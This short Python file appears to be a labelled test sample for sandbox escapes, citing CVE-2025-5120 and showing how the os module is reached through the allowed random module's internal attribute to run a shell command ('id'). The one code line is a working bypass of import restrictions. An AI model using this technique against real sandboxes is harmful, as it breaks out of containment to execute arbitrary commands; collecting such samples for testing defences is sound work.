# class: lineage
# mechanism: CVE-2025-5120: import through an allowed module's attribute
# reaches: os
import random
random._os.system("id")
